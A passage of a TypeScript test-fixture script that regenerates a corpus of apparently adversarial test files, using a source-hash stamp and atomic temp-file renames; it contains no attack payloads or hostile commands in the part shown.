  if (file in HOSTILE_FILES) return HOSTILE_FILES[file as keyof typeof HOSTILE_FILES];
  const n = Number(/^name-(\d+)\.txt$/.exec(file)?.[1]);
  if (!(n >= 1 && n <= NAME_MEMOS)) throw new Error(`no corpus file ${file}`);
  return () => memo(100 + n, `Memo ${n}`);
}

const STAMP = '.stamp';

function sourceHash(): string {
  return createHash('sha256')
    .update(readFileSync(fileURLToPath(import.meta.url)))
    .update(readFileSync(fileURLToPath(new URL('../fixtures/hand-made-pdf.ts', import.meta.url))))
    .digest('hex');
}

/**
 * Writes every corpus file unless the stamp shows they are current. Each file is written
 * under a temporary name and renamed, so a concurrent reader never sees half of one.
 * @returns whether anything was written
 */
export async function ensureHostileCorpus(options: { force?: boolean } = {}): Promise<boolean> {
  const hash = sourceHash();
  const files = hostileFiles();
  if (!options.force) {
    const stamp = await readFile(`${hostileDir}${STAMP}`, 'utf8').catch(() => '');
    if (stamp === hash && files.every((file) => existsSync(hostilePath(file)))) return false;
  }
  await mkdir(hostileDir, { recursive: true });
  for (const file of files) {
    const builder = builderFor(file);
    const temp = `${hostilePath(file)}.${process.pid}.tmp`;
    await writeFile(temp, await builder());
    await rename(temp, hostilePath(file));
  }
  await writeFile(`${hostileDir}${STAMP}`, hash);
  return true;
}

if (process.argv[1] && import.meta.url === pathToFileURL(process.argv[1]).href) {
  const started = performance.now();
  const wrote = await ensureHostileCorpus({ force: process.argv.includes('--force') });
  console.log(wrote ? `hostile corpus written in ${Math.round(performance.now() - started)} ms` : 'hostile corpus is current');
}
